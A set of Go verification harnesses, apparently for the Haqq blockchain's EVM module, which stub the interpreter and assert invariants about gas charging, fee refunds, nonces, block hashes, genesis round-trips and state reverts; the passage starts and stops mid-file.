	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), bankKeeper: bank, accountKeeper: ak, feeMarketKeeper: c07FeeMarket{mult: sdk.ZeroDec()}}

	gasLimit := zz.AnyUint64In("gasLimit", 0, 1<<40)
	c07.leftover = zz.AnyUint64("evmLeftover")
	c07.refund = 0
	c07.fail = zz.AnyBool("vmError")
	c07.intrinsic = zz.AnyUint64In("intrinsicGas", 0, 1<<40)
	c07.createBumpsNonce = zz.AnyBool("createReachedTheNonceBump") // go-ethereum's create increments the caller's nonce unless it fails before (depth / balance)
	create := zz.AnyBool("contractCreation")
	to := &c07To
	if create {
		to = nil
	}
	msg := ethtypes.NewMessage(c07From, to, nonce, big.NewInt(0), gasLimit, big.NewInt(1), big.NewInt(1), big.NewInt(1), nil, nil, false)
	p := types.DefaultParams()
	p.ActivePrecompiles = nil
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	cfg := &statedb.EVMConfig{Params: p, ChainConfig: p.ChainConfig.EthereumConfig(big.NewInt(11235)), BaseFee: big.NewInt(0)}
	_, err := k.ApplyMessageWithConfig(env.Ctx, msg, types.NewNoOpTracer(), true, cfg, statedb.NewEmptyTxConfig(common.Hash{}))
	if err != nil {
		zz.Reach("rejected")
		return
	}
	seq := ak.accs[string(acc.GetAddress())].GetSequence()
	zz.ObserveUint64("sequenceAfter", seq)
	zz.Assert(seq >= seq0, "executing a message never lowers the sender's sequence: an already executed later message of the same transaction must not become acceptable again")
	zz.Assert(seq == seq0, "execution leaves the sequence exactly where the ante handler put it")
	if create {
		zz.Reach("created")
	} else {
		zz.Reach("called")
	}
	zz.Reach("end")
}
