package keeper

// Harnesses for property C07 (exact EVM gas charging). The EVM interpreter is replaced by a stub that returns an
// arbitrary outcome within go-ethereum's contract (leftover gas <= gas given, arbitrary error, arbitrary refund counter);
// everything Haqq does around it is the real code.

import (
	"errors"
	"math/big"

	sdkmath "cosmossdk.io/math"
	storetypes "github.com/cosmos/cosmos-sdk/store/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/core/vm"
	ethparams "github.com/ethereum/go-ethereum/params"

	"github.com/haqq-network/haqq/x/evm/statedb"
	"github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (*github.com/haqq-network/haqq/x/evm/keeper.Keeper).NewEVM -> c07NewEVM
//verif:override (*github.com/ethereum/go-ethereum/core/vm.EVM).Call -> c07Call
//verif:override (*github.com/ethereum/go-ethereum/core/vm.EVM).Create -> c07Create
//verif:override (*github.com/haqq-network/haqq/x/evm/keeper.Keeper).GetEthIntrinsicGas -> c07Intrinsic

var c07 struct {
	stateDB   vm.StateDB
	leftover  uint64 // what the interpreter hands back
	refund    uint64 // refund counter accumulated by SSTOREs
	fail      bool
	intrinsic uint64
	gasGiven  uint64
	// createBumpsNonce: go-ethereum's create increments the caller's nonce before running the init code, unless it fails
	// earlier (call depth, insufficient balance)
	createBumpsNonce bool
	// effects: what the interpreter (and a precompile called by it) writes while it runs: an EVM storage slot and a
	// Cosmos-side record written straight into the SDK context of the StateDB (used by the C05 harness)
	effects  bool
	storeKey storetypes.StoreKey
}

func c07NewEVM(k *Keeper, ctx sdk.Context, msg core.Message, cfg *statedb.EVMConfig, tracer vm.EVMLogger, stateDB vm.StateDB) *vm.EVM {
	c07.stateDB = stateDB
	return &vm.EVM{Context: vm.BlockContext{BlockNumber: big.NewInt(ctx.BlockHeight())}}
}

func c07Run(gas uint64) (uint64, error) {
	c07.gasGiven = gas
	if c07.effects {
		c07.stateDB.SetState(c07To, common.Hash{31: 1}, common.Hash{31: 7})
		if sdb, ok := c07.stateDB.(*statedb.StateDB); ok {
			sdb.GetContext().KVStore(c07.storeKey).Set([]byte("zz-precompile-effect"), []byte{1})
		}
	}
	c07.stateDB.AddRefund(c07.refund)
	left := c07.leftover
	if left > gas {
		left = gas // go-ethereum never returns more gas than it was given
	}
	if c07.fail {
		return left, errors.New("execution reverted")
	}
	return left, nil
}

func c07Call(evm *vm.EVM, caller vm.ContractRef, addr common.Address, input []byte, gas uint64, value *big.Int) ([]byte, uint64, error) {
	left, err := c07Run(gas)
	return nil, left, err
}

func c07Create(evm *vm.EVM, caller vm.ContractRef, code []byte, gas uint64, value *big.Int) ([]byte, common.Address, uint64, error) {
	if c07.createBumpsNonce {
		c07.stateDB.SetNonce(caller.Address(), c07.stateDB.GetNonce(caller.Address())+1)
	}
	left, err := c07Run(gas)
	return nil, common.Address{}, left, err
}

func c07Intrinsic(k *Keeper, ctx sdk.Context, msg core.Message, cfg *ethparams.ChainConfig, isContractCreation bool) (uint64, error) {
	return c07.intrinsic, nil
}

// c07FeeMarket: the fee market's parameters as the EVM keeper reads them. The minimum gas multiplier applies whatever the
// other parameters say (base fee switched off, enable height not reached yet).
type c07FeeMarket struct {
	mult         sdk.Dec
	enableHeight int64
	noBaseFee    bool
}

func (f c07FeeMarket) GetBaseFee(ctx sdk.Context) *big.Int { return nil }
func (f c07FeeMarket) GetParams(ctx sdk.Context) feemarkettypes.Params {
	p := feemarkettypes.DefaultParams()
	p.MinGasMultiplier = f.mult
	p.EnableHeight = f.enableHeight
	p.NoBaseFee = f.noBaseFee
	return p
}
func (f c07FeeMarket) AddTransientGasWanted(ctx sdk.Context, gasWanted uint64) (uint64, error) { return 0, nil }
func (f c07FeeMarket) CalculateBaseFee(ctx sdk.Context) *big.Int                               { return nil }

// c07Bank: fee collector and sender balances; coins move exactly as asked.
type c07Bank struct {
	collector sdkmath.Int
	sender    sdkmath.Int
	senderAddr sdk.AccAddress
}

func (b *c07Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.sender)
}
func (b *c07Bank) SendCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, recipientAddr sdk.AccAddress, amt sdk.Coins) error {
	if senderModule != authtypes.FeeCollectorName || !recipientAddr.Equals(b.senderAddr) {
		panic("unexpected refund route")
	}
	a := amt.AmountOf("aISLM")
	if b.collector.LT(a) {
		return errors.New("insufficient funds")
	}
	b.collector = b.collector.Sub(a)
	b.sender = b.sender.Add(a)
	return nil
}
func (b *c07Bank) MintCoins(ctx sdk.Context, moduleName string, amt sdk.Coins) error { panic("not used") }
func (b *c07Bank) BurnCoins(ctx sdk.Context, moduleName string, amt sdk.Coins) error { panic("not used") }
func (b *c07Bank) IsSendEnabledCoins(ctx sdk.Context, coins ...sdk.Coin) error         { return nil }
func (b *c07Bank) SendCoins(ctx sdk.Context, from, to sdk.AccAddress, amt sdk.Coins) error { panic("not used") }
func (b *c07Bank) SendCoinsFromAccountToModule(ctx sdk.Context, senderAddr sdk.AccAddress, recipientModule string, amt sdk.Coins) error {
	panic("not used")
}

var c07From = common.HexToAddress("0x1000000000000000000000000000000000000001")
var c07To = common.HexToAddress("0x2000000000000000000000000000000000000002")

// VerifC07_GasUsed: gasUsed = max(floor(gasLimit x minGasMultiplier), gas consumed after refunds) and never above gasLimit;
// then the refund of the unused part at the effective price makes the sender's net payment exactly gasUsed x price.
func VerifC07_GasUsed() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	env.Ctx = env.Ctx.WithBlockHeight(zz.AnyInt64In("height", 1, 1<<40))
	mult := zz.AnyDecRaw("minGasMultiplier", "0", "1000000000000000000")
	gasLimit := zz.AnyUint64In("gasLimit", 0, 1<<62)
	price := zz.AnyBigAmount("effectiveGasPrice", 128)
	bank := &c07Bank{senderAddr: sdk.AccAddress(c07From.Bytes())}
	// the ante handler has deducted gasLimit x price up front into the fee collector
	upfront := sdkmath.NewIntFromBigInt(new(big.Int).Mul(new(big.Int).SetUint64(gasLimit), price))
	bank.collector = upfront.Add(zz.AnyAmount("collectorBefore", 128))
	collector0 := bank.collector.Sub(upfront)
	bank.sender = zz.AnyAmount("senderAfterDeduction", 128)
	sender0 := bank.sender.Add(upfront)
	ak := &c02kAK{accs: map[string]authtypes.AccountI{}}
	ak.accs[string(sdk.AccAddress(c07From.Bytes()))] = ak.NewAccountWithAddress(env.Ctx, sdk.AccAddress(c07From.Bytes()))
	k := &Keeper{cdc: zz.Codec(), storeKey: env.Key("evm"), transientKey: env.Key("transient_evm"), bankKeeper: bank, accountKeeper: ak, feeMarketKeeper: c07FeeMarket{mult: mult, enableHeight: zz.AnyInt64In("feemarket.enableHeight", 0, 1<<40), noBaseFee: zz.AnyBool("feemarket.noBaseFee")}}

	c07.leftover = zz.AnyUint64("evmLeftover")
	c07.refund = zz.AnyUint64In("refundCounter", 0, 1<<62)
	c07.fail = zz.AnyBool("vmError")
	c07.intrinsic = zz.AnyUint64In("intrinsicGas", 0, 1<<62)
	to := &c07To
	if zz.AnyBool("contractCreation") {
		to = nil // contract creation: same gas identities; the nonce handling around evm.Create is C03's subject
	}
	c07.createBumpsNonce = true
	msg := ethtypes.NewMessage(c07From, to, 0, big.NewInt(0), gasLimit, price, price, price, nil, nil, false)
	p := types.DefaultParams()
	p.ActivePrecompiles = nil // the stateful precompiles are not part of this harness
	if err := k.SetParams(env.Ctx, p); err != nil { // the keeper write-back of the sender (nonce bump of a creation) reads the EVM denomination
		panic(err)
	}
	cfg := &statedb.EVMConfig{Params: p, ChainConfig: p.ChainConfig.EthereumConfig(big.NewInt(11235)), BaseFee: big.NewInt(0)}
	res, err := k.ApplyMessageWithConfig(env.Ctx, msg, types.NewNoOpTracer(), true, cfg, statedb.NewEmptyTxConfig(common.Hash{}))
	if err != nil {
		zz.Reach("rejected")
		return
	}
	// what the interpreter consumed, and the refund go-ethereum's rule allows (London: a fifth of what was consumed)
	consumed := gasLimit - minU64(c07.leftover, c07.gasGiven)
	allowed := consumed / 5
	refund := minU64(c07.refund, allowed)
	afterRefund := consumed - refund
	floor := sdkmath.LegacyNewDec(int64(gasLimit)).Mul(mult).TruncateInt()
	want := sdkmath.MaxInt(floor, sdkmath.NewIntFromUint64(afterRefund))
	zz.ObserveUint64("gasUsed", res.GasUsed)
	zz.Assert(sdkmath.NewIntFromUint64(res.GasUsed).Equal(want), "gasUsed = max(floor(gasLimit x minGasMultiplier), EVM gas after refunds)")
	zz.Assert(res.GasUsed <= gasLimit, "gasUsed never exceeds the gas limit")
	zz.Assert(res.Failed() == c07.fail, "the VM error is reported, not swallowed")

	// the refund step of ApplyTransaction
	err = k.RefundGas(env.Ctx, msg, msg.Gas()-res.GasUsed, "aISLM")
	zz.Assert(err == nil, "refund of the unused gas succeeds when the collector holds the up-front deduction")
	paid := sender0.Sub(bank.sender)
	wantPaid := sdkmath.NewIntFromBigInt(new(big.Int).Mul(new(big.Int).SetUint64(res.GasUsed), price))
	zz.ObserveInt("paid", paid)
	zz.Assert(paid.Equal(wantPaid), "sender's net payment = gasUsed x effective gas price")
	zz.Assert(bank.collector.Sub(collector0).Equal(wantPaid), "the fee collector keeps exactly gasUsed x effective gas price")
	zz.Reach("end")
}

func minU64(a, b uint64) uint64 {
	if a < b {
		return a
	}
	return b
}

// VerifC07_VerifyFee: the up-front deduction is gasLimit x effective gas price, and a fee cap below the base fee is refused.
func VerifC07_VerifyFee() {
	gas := zz.AnyUint64In("gas", 0, 1<<62)
	to := c07To.Hex()
	var txData types.TxData
	var price, tip *big.Int
	legacy := zz.Choose("type", 2) == 0
	if legacy {
		p := zz.AnyAmount("gasPrice", 128)
		price, tip = p.BigInt(), p.BigInt()
		txData = &types.LegacyTx{GasLimit: gas, To: to, GasPrice: &p}
	} else {
		c, t := zz.AnyAmount("feeCap", 128), zz.AnyAmount("tipCap", 128)
		price, tip = c.BigInt(), t.BigInt()
		txData = &types.DynamicFeeTx{GasLimit: gas, To: to, GasFeeCap: &c, GasTipCap: &t}
	}
	var baseFee *big.Int
	if zz.Choose("baseFeeEnabled", 2) == 1 || !legacy {
		baseFee = zz.AnyBigAmount("baseFee", 128)
	}
	fees, err := VerifyFee(txData, "aISLM", baseFee, true, true, false)
	if baseFee != nil && price.Cmp(baseFee) < 0 {
		zz.Assert(err != nil, "a fee cap below the current base fee is rejected")
		zz.Reach("below-base-fee")
		return
	}
	zz.Assert(err == nil, "a fee cap at or above the base fee passes")
	eff := price
	if !legacy {
		eff = new(big.Int).Add(tip, baseFee)
		if eff.Cmp(price) > 0 {
			eff = price
		}
	}
	want := sdkmath.NewIntFromBigInt(new(big.Int).Mul(eff, new(big.Int).SetUint64(gas)))
	zz.ObserveInt("fee", fees.AmountOf("aISLM"))
	zz.Assert(fees.AmountOf("aISLM").Equal(want), "up-front deduction = gasLimit x effective gas price")
	zz.Reach("end")
}
