package keeper

// Harness for property C01 at the contract-code read: GetCode is called with a gas-metered context (ERC20 conversions, the
// bank send wrapper, IBC callbacks, calls nested in precompiles). What it returns and how many store reads it is charged
// for is a function of the committed state and the call, not of what this process loaded before - an earlier transaction,
// a query on another branch of the state, or a branch that was discarded.

import (
	paramstypes "github.com/cosmos/cosmos-sdk/x/params/types"
	"github.com/ethereum/go-ethereum/common"

	zz "github.com/haqq-network/haqq/zzverif"
)

func VerifC01_GetCodeNoProcessState() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	k := NewKeeper(zz.Codec(), env.Key("evm"), env.Key("transient_evm"), c02kMod("gov"), &c02kAK{accs: nil}, &c02kBank{}, &c01SK{}, nil, "", paramstypes.Subspace{})
	ctx := env.Ctx
	hash := common.HexToHash("0xc0de")
	code := []byte{0x60, 0x00, 0x60, 0x00, 0xf3}
	stored := zz.AnyBool("codeIsStored")
	if stored {
		k.SetCode(ctx, hash.Bytes(), code)
	}
	// what this process did before: nothing / read the code in the same state (an earlier transaction, a query) / a branch
	// that stored the code, read it and was discarded (a failed transaction, a simulation) / a branch that deleted it
	switch zz.Choose("earlier", 4) {
	case 1:
		q, _ := ctx.CacheContext()
		k.GetCode(q, hash)
	case 2:
		q, _ := ctx.CacheContext()
		k.SetCode(q, hash.Bytes(), code)
		k.GetCode(q, hash)
	case 3:
		q, _ := ctx.CacheContext()
		k.GetCode(q, hash)
		k.SetCode(q, hash.Bytes(), nil)
		k.GetCode(q, hash)
	}
	r0 := zz.KVReads()
	got := k.GetCode(ctx, hash)
	reads := zz.KVReads() - r0
	if stored {
		zz.Assert(string(got) == string(code), "GetCode returns the committed code")
	} else {
		zz.Assert(len(got) == 0, "GetCode returns nothing for code that is not in the committed state")
	}
	zz.Assert(reads == 1, "GetCode reads the store exactly once (and is charged for it) whatever this process loaded before")
	zz.Reach("end")
}
