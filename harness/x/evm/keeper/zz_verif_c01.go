package keeper

// Harness for property C01 at the EVM block context: what BLOCKHASH answers is a function of the block inputs (context,
// consensus state), not of what this process evaluated before. Two replicas built by the real NewKeeper over the same
// consensus state; one of them has served earlier lookups (an earlier transaction, an eth_call, a trace) while the
// historical entries were in a different state; then both answer the same lookup in the same context.

import (
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	paramstypes "github.com/cosmos/cosmos-sdk/x/params/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"

	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/cometbft/cometbft/types.HeaderFromProto -> c01HeaderFromProto
//verif:override (*github.com/cometbft/cometbft/types.Header).Hash -> c01HeaderHash

// the header hash is the merkle root of the proto-encoded fields; here a header is identified by (height, app hash byte)
func c01HeaderFromProto(ph *tmproto.Header) (tmtypes.Header, error) {
	return tmtypes.Header{Height: ph.Height, AppHash: ph.AppHash}, nil
}
func c01HeaderHash(h *tmtypes.Header) []byte {
	out := make([]byte, 32)
	out[0], out[1], out[31] = 0xb1, byte(h.Height), 1
	if len(h.AppHash) > 0 {
		out[2] = h.AppHash[0]
	}
	return out
}

// c01SK: the staking module's historical entries (consensus state, pruned every block)
type c01SK struct{ hist map[int64]byte }

func (s *c01SK) GetHistoricalInfo(ctx sdk.Context, height int64) (stakingtypes.HistoricalInfo, bool) {
	b, ok := s.hist[height]
	if !ok {
		return stakingtypes.HistoricalInfo{}, false
	}
	return stakingtypes.HistoricalInfo{Header: tmproto.Header{Height: height, AppHash: []byte{b}}}, true
}
func (s *c01SK) GetValidatorByConsAddr(ctx sdk.Context, consAddr sdk.ConsAddress) (stakingtypes.Validator, bool) {
	return stakingtypes.Validator{}, false
}

// which of the (immutable) past headers are still kept at this point
func c01Hist(tag string, heights []int64, app []byte) map[int64]byte {
	m := map[int64]byte{}
	for i, h := range heights {
		if zz.AnyBool(tag + ".has." + string(rune('0'+i))) {
			m[h] = app[i]
		}
	}
	return m
}

func VerifC01_BlockHashNoProcessState() {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	n := zz.ParamInt("lookups", 2) // earlier lookups served by the long-running replica
	heights := []int64{5, 6}
	app := []byte{byte(zz.Choose("app.0", 2)), byte(zz.Choose("app.1", 2))}
	mk := func(sk *c01SK) *Keeper {
		return NewKeeper(zz.Codec(), env.Key("evm"), env.Key("transient_evm"), c02kMod("gov"), &c02kAK{accs: nil}, &c02kBank{}, sk, nil, "", paramstypes.Subspace{})
	}
	skA, skB := &c01SK{}, &c01SK{}
	a, b := mk(skA), mk(skB)
	// replica A has been running: it answered lookups in earlier blocks / queries, against the entries of that time
	for i := 0; i < n; i++ {
		if !zz.AnyBool("earlier." + string(rune('0'+i))) {
			continue
		}
		skA.hist = c01Hist("past"+string(rune('0'+i)), heights, app)
		ctxP := env.Ctx.WithBlockHeight(int64(7 + i))
		a.GetHashFn(ctxP)(uint64(heights[zz.Choose("past.h."+string(rune('0'+i)), 2)]))
		zz.Reach("served-earlier-lookup")
	}
	// now: the same block on both replicas, the same consensus state
	now := c01Hist("now", heights, app)
	skA.hist, skB.hist = now, now
	ctx := env.Ctx.WithBlockHeight(int64(7 + n))
	h := uint64(heights[zz.Choose("h", 2)])
	ra, rb := a.GetHashFn(ctx)(h), b.GetHashFn(ctx)(h)
	zz.Assert(ra == rb, "BLOCKHASH answers the same on a long-running replica and on a freshly started one (no process-local state)")
	if _, ok := now[int64(h)]; !ok {
		zz.Assert(ra == (common.Hash{}), "a pruned historical entry answers the zero hash")
		zz.Reach("pruned")
	} else {
		zz.Assert(ra != (common.Hash{}), "a present historical entry answers its header hash")
		zz.Reach("present")
	}
	zz.Reach("end")
}
