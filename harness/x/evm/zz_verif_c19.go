package evm

// Harness for property C19 (genesis export/import), x/evm module: code and storage of every EVM account and the module
// parameters survive Export -> Init -> Export. Accounts themselves (address, code hash) live in x/auth and are given to
// both keepers identically.

import (
	"bytes"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/x/evm/keeper"
	"github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c19AK struct{ accs []authtypes.AccountI }

func (a *c19AK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	return nil
}
func (a *c19AK) GetModuleAddress(name string) sdk.AccAddress { return authtypes.NewModuleAddress(name) }
func (a *c19AK) GetAllAccounts(ctx sdk.Context) []authtypes.AccountI { return a.accs }
func (a *c19AK) IterateAccounts(ctx sdk.Context, cb func(account authtypes.AccountI) bool) {
	for _, x := range a.accs {
		if cb(x) {
			return
		}
	}
}
func (a *c19AK) GetSequence(sdk.Context, sdk.AccAddress) (uint64, error) { return 0, nil }
func (a *c19AK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	for _, x := range a.accs {
		if bytes.Equal(x.GetAddress(), addr) {
			return x
		}
	}
	return nil
}
func (a *c19AK) SetAccount(sdk.Context, authtypes.AccountI)       {}
func (a *c19AK) RemoveAccount(sdk.Context, authtypes.AccountI)    {}
func (a *c19AK) GetParams(ctx sdk.Context) (p authtypes.Params)   { return }

func c19Keeper(ak *c19AK) (*keeper.Keeper, sdk.Context) {
	env := zz.NewEnv([]string{"evm"}, []string{"transient_evm"})
	ss := zz.NewSubspace(env, "evm", types.ParamKeyTable)
	k := keeper.NewKeeper(zz.Codec(), env.Key("evm"), env.Key("transient_evm"), authtypes.NewModuleAddress("gov"), ak, nil, nil, nil, "", ss)
	return k, env.Ctx.WithChainID("haqq_11235-1")
}

var c19Codes = [][]byte{nil, {0x60, 0x00}, {0x60, 0x01, 0x00}}
var c19Keys = []common.Hash{common.HexToHash("0x01"), common.HexToHash("0xff00000000000000000000000000000000000000000000000000000000000002")}
var c19Vals = []common.Hash{common.HexToHash("0x2a"), common.HexToHash("0xabcdef00000000000000000000000000000000000000000000000000000000ff"), common.HexToHash("0x0100")}

func c19Addr(i int) common.Address {
	return common.BytesToAddress([]byte{0xa0 + byte(i), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, byte(i + 1)})
}

// VerifC19_Evm: for every module state S over N EVM accounts (each: one of 3 code shapes including "no code", each of 2 storage
// slots independently absent or holding one of 3 values; plain non-EVM accounts interleaved; parameters varied),
// Export(Init(Export(S))) = Export(S), and GetCode / GetState answer identically.
func VerifC19_Evm() {
	n := zz.ParamInt("accounts", 2)
	ak := &c19AK{}
	type pre struct {
		addr common.Address
		code []byte
	}
	var pres []pre
	for i := 0; i < n; i++ {
		tag := string(rune('A' + i))
		code := c19Codes[zz.Choose("code."+tag, len(c19Codes))]
		addr := c19Addr(i)
		ea := &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccountWithAddress(addr.Bytes()), CodeHash: common.BytesToHash(crypto.Keccak256(code)).Hex()}
		ak.accs = append(ak.accs, ea)
		if i == 0 && zz.AnyBool("plainAccountBetween") {
			ak.accs = append(ak.accs, authtypes.NewBaseAccountWithAddress(sdk.AccAddress(c19Addr(7).Bytes())))
		}
		pres = append(pres, pre{addr, code})
	}
	k1, ctx1 := c19Keeper(ak)
	p := types.DefaultParams()
	if zz.ParamInt("varyParams", 1) == 1 {
		p.EnableCreate = zz.AnyBool("enableCreate")
		p.EnableCall = zz.AnyBool("enableCall")
		p.AllowUnprotectedTxs = zz.AnyBool("allowUnprotected")
		if zz.AnyBool("extraEIP") {
			p.ExtraEIPs = []int64{3855}
		}
	}
	if err := k1.SetParams(ctx1, p); err != nil {
		panic(err)
	}
	for i, a := range pres {
		tag := string(rune('A' + i))
		k1.SetCode(ctx1, crypto.Keccak256(a.code), a.code)
		for s, key := range c19Keys {
			if v := zz.Choose("slot."+tag+"."+string(rune('0'+s)), zz.ParamInt("vals", len(c19Vals))+1); v > 0 {
				k1.SetState(ctx1, a.addr, key, c19Vals[v-1].Bytes())
			}
		}
	}
	g1 := ExportGenesis(ctx1, k1, ak)
	if err := g1.Validate(); err != nil {
		zz.Assert(false, "an exported genesis validates: "+err.Error())
	}

	k2, ctx2 := c19Keeper(ak)
	InitGenesis(ctx2, k2, ak, *g1)
	g2 := ExportGenesis(ctx2, k2, ak)

	zz.Assert(len(g2.Accounts) == len(g1.Accounts) && len(g1.Accounts) == n, "every EVM account is exported, none invented")
	for i := range g1.Accounts {
		if i >= len(g2.Accounts) {
			break
		}
		a1, a2 := g1.Accounts[i], g2.Accounts[i]
		zz.Assert(a1.Address == a2.Address, "account address survives")
		zz.Assert(a1.Code == a2.Code, "account code survives")
		zz.Assert(len(a1.Storage) == len(a2.Storage), "no storage slot is dropped or invented")
		for j := range a1.Storage {
			if j < len(a2.Storage) {
				zz.Assert(a1.Storage[j].Key == a2.Storage[j].Key && a1.Storage[j].Value == a2.Storage[j].Value, "every storage slot survives")
			}
		}
	}
	// the keepers answer identically, slot by slot and code by code (also catches an export that drops data on both sides)
	for _, a := range pres {
		h := common.BytesToHash(crypto.Keccak256(a.code))
		zz.Assert(bytes.Equal(k1.GetCode(ctx1, h), k2.GetCode(ctx2, h)), "GetCode answers identically")
		for _, key := range c19Keys {
			zz.Assert(k1.GetState(ctx1, a.addr, key) == k2.GetState(ctx2, a.addr, key), "GetState answers identically")
		}
	}
	q1, q2 := k1.GetParams(ctx1), k2.GetParams(ctx2)
	zz.Assert(q1.EvmDenom == q2.EvmDenom && q1.EnableCreate == q2.EnableCreate && q1.EnableCall == q2.EnableCall &&
		q1.AllowUnprotectedTxs == q2.AllowUnprotectedTxs && len(q1.ExtraEIPs) == len(q2.ExtraEIPs) &&
		len(q1.ActivePrecompiles) == len(q2.ActivePrecompiles) && q1.ChainConfig.LondonBlock.Equal(*q2.ChainConfig.LondonBlock) && q1.ChainConfig.ShanghaiBlock.Equal(*q2.ChainConfig.ShanghaiBlock), "every parameter survives")
	zz.Reach("end")
}
