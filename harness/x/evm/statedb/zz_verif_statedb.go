package statedb

// Harnesses over the real StateDB / journal / state objects: C05 (a reverted frame leaves no trace), C02 (EVM execution
// conserves the native coin) and C01 (commit order independent of map iteration order).
//
// The harness plays the EVM interpreter for a bounded program of state operations with nested call frames (snapshot,
// body, optional revert) - the frame protocol of go-ethereum's Call - against a ledger keeper that records what
// the real x/evm keeper would write to bank/auth/storage, including the mint/burn delta of SetBalance.

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"

	zz "github.com/haqq-network/haqq/zzverif"
)

// sLedger is the committed state behind the StateDB (what x/evm keeper + bank + auth hold).
type sLedger struct {
	acct    map[common.Address]*Account
	storage map[common.Address]map[common.Hash]common.Hash
	code    map[common.Hash][]byte
	supply  *big.Int // total native coin: SetAccount mints / burns the balance delta, DeleteAccount burns the balance
	trace   []string // order of write calls (C01)
}

func newLedger() *sLedger {
	return &sLedger{acct: map[common.Address]*Account{}, storage: map[common.Address]map[common.Hash]common.Hash{}, code: map[common.Hash][]byte{}, supply: new(big.Int)}
}
func (l *sLedger) GetAccount(ctx sdk.Context, addr common.Address) *Account {
	a, ok := l.acct[addr]
	if !ok {
		return nil
	}
	return &Account{Nonce: a.Nonce, Balance: new(big.Int).Set(a.Balance), CodeHash: a.CodeHash}
}
func (l *sLedger) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash {
	return l.storage[addr][key]
}
func (l *sLedger) GetCode(ctx sdk.Context, codeHash common.Hash) []byte { return l.code[codeHash] }
func (l *sLedger) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
}
func (l *sLedger) SetAccount(ctx sdk.Context, addr common.Address, account Account) error {
	old := new(big.Int)
	if a, ok := l.acct[addr]; ok {
		old = a.Balance
	}
	l.supply = new(big.Int).Add(l.supply, new(big.Int).Sub(account.Balance, old))
	l.acct[addr] = &Account{Nonce: account.Nonce, Balance: new(big.Int).Set(account.Balance), CodeHash: account.CodeHash}
	l.trace = append(l.trace, addr.Hex()+" SetAccount")
	return nil
}
func (l *sLedger) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {
	if _, ok := l.storage[addr]; !ok {
		l.storage[addr] = map[common.Hash]common.Hash{}
	}
	l.storage[addr][key] = common.BytesToHash(value)
	l.trace = append(l.trace, addr.Hex()+" SetState "+key.Hex())
}
func (l *sLedger) SetCode(ctx sdk.Context, codeHash []byte, code []byte) {}
func (l *sLedger) DeleteAccount(ctx sdk.Context, addr common.Address) error {
	if a, ok := l.acct[addr]; ok {
		l.supply = new(big.Int).Sub(l.supply, a.Balance)
	}
	delete(l.acct, addr)
	delete(l.storage, addr)
	l.trace = append(l.trace, addr.Hex()+" DeleteAccount")
	return nil
}

// the addresses share their first 16 bytes (reserved low range) - orderings must use all 20 bytes
var sAddrs = []common.Address{
	common.HexToAddress("0x0000000000000000000000000000000000000801"),
	common.HexToAddress("0x0000000000000000000000000000000000000005"),
	common.HexToAddress("0x0000000000000000000000000000000000000800"),
}
var sKeys = []common.Hash{common.HexToHash("0x01"), common.HexToHash("0x02")}

// sRef is the reference semantics: plain maps, frames by copying.
type sRef struct {
	bal      map[common.Address]*big.Int
	st       map[common.Address]map[common.Hash]common.Hash
	suicided map[common.Address]bool
}

func (r *sRef) clone() *sRef {
	n := &sRef{bal: map[common.Address]*big.Int{}, st: map[common.Address]map[common.Hash]common.Hash{}, suicided: map[common.Address]bool{}}
	for _, a := range sAddrs {
		n.bal[a] = new(big.Int).Set(r.bal[a])
		n.st[a] = map[common.Hash]common.Hash{}
		for _, k := range sKeys {
			n.st[a][k] = r.st[a][k]
		}
		n.suicided[a] = r.suicided[a]
	}
	return n
}

type sRun struct {
	db     *StateDB
	ref    *sRef
	budget int
	seq    int
	// bookkeeping for the known finding C05-F2 (mid-transaction Commit by precompiles)
	flushes            [][]common.Address            // per open frame: accounts that were journal-dirty at a mid-transaction Commit inside it
	flushedThenReverted map[common.Address]bool       // account state was flushed inside a frame that later reverted
	deletedMidTx       map[common.Address]bool        // a self-destructed account was already removed from the stores by a mid-transaction Commit
}

// known reports whether a mismatch on account a has the shape of the recorded finding C05-F2: its state was flushed to the
// stores by a mid-transaction Commit inside a frame that later reverted and no journal entry outside reverted frames keeps
// it dirty (so the final Commit does not visit it) - or the account was self-destructed and already deleted mid-transaction.
func (s *sRun) known(a common.Address) bool {
	return (s.flushedThenReverted[a] && !s.dirty(a)) || s.deletedMidTx[a]
}

// dirty: the journal lists the account as changed (written so that it does not depend on how the journal counts)
func (s *sRun) dirty(a common.Address) bool {
